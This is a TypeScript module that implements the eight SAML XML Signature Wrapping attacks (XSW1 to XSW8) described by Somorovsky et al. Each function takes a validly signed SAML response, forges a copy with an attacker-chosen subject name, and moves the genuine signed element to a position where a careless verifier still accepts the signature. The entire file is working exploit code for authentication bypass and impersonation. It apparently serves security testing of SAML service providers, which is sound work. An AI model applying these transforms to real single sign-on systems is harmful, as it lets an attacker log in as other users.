/*
 * Signature wrapping: the eight ways of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX
 * Security 2012), as their numbers are used since. Each keeps the signed element somewhere in the document, so that its
 * signature still verifies, and puts a forged one where a careless reader looks.
 */

/** An answer whose subject is forged. */
export type Wrap = (xml: string, forgedName: string) => string;

const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/;
const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;

/** By number: 1 and 2 wrap the answer, 3 to 8 the assertion. */
export const WRAPS: Readonly<Record<string, Wrap>> = {
  XSW1: (xml, name) => {
    const { signature, bare } = splitResponse(xml);
    const evil = forge(bare, name);
    return afterIssuer(evil, signature.replace('</ds:Signature>', `${bare}</ds:Signature>`));
  },
  XSW2: (xml, name) => {
    const { signature, bare } = splitResponse(xml);
    return afterIssuer(forge(bare, name), `${bare}${signature}`);
  },
  XSW3: (xml, name) => replaceAssertion(xml, (own, evil) => `${evil}${own}`, name),
  XSW4: (xml, name) => replaceAssertion(xml, (own, evil) => inside(evil, own), name),
  XSW5: (xml, name) =>
    replaceAssertion(xml, (own, evil) => {
      const [signature = ''] = SIGNATURE.exec(own) ?? [];
      return `${afterIssuer(evil, signature)}${own.replace(SIGNATURE, '')}`;
    }, name),
  XSW6: (xml, name) =>
    replaceAssertion(xml, (own, evil) => {
      const [signature = ''] = SIGNATURE.exec(own) ?? [];
      const full = signature.replace('</ds:Signature>', `${own.replace(SIGNATURE, '')}</ds:Signature>`);
      return afterIssuer(evil, full);
    }, name),
  XSW7: (xml, name) =>
    replaceAssertion(xml, (own, evil) => `<samlp:Extensions>${evil}</samlp:Extensions>${own}`, name),
  XSW8: (xml, name) =>
    replaceAssertion(xml, (own, evil) => {
      const [signature = ''] = SIGNATURE.exec(own) ?? [];
      const kept = `<ds:Object>${own.replace(SIGNATURE, '')}</ds:Object></ds:Signature>`;
      return afterIssuer(evil, signature.replace('</ds:Signature>', kept));
    }, name),
}; // prettier-ignore

/** The signature of the answer itself, and the answer without it. */
function splitResponse(xml: string): { readonly signature: string; readonly bare: string } {
  const head = xml.slice(0, xml.indexOf('<saml:Assertion'));
  const [signature = ''] = SIGNATURE.exec(head) ?? [];
  return { signature, bare: xml.replace(signature, '') };
}

/** The same with other identifiers and another subject, and no signature. */
function forge(xml: string, name: string): string {
  return xml
    .replaceAll(new RegExp(SIGNATURE, 'g'), '')
    .replaceAll(/ ID="_/g, ' ID="_evil')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${name}`);
}

function replaceAssertion(xml: string, make: (own: string, evil: string) => string, name: string): string {
  const [own = ''] = ASSERTION.exec(xml) ?? [];
  return xml.replace(own, () => make(own, forge(own, name)));
}

function inside(outer: string, inner: string): string {
  return outer.replace('</saml:Assertion>', () => `${inner}</saml:Assertion>`);
}

function afterIssuer(xml: string, part: string): string {
  return xml.replace('</saml:Issuer>', () => `</saml:Issuer>${part}`);
}
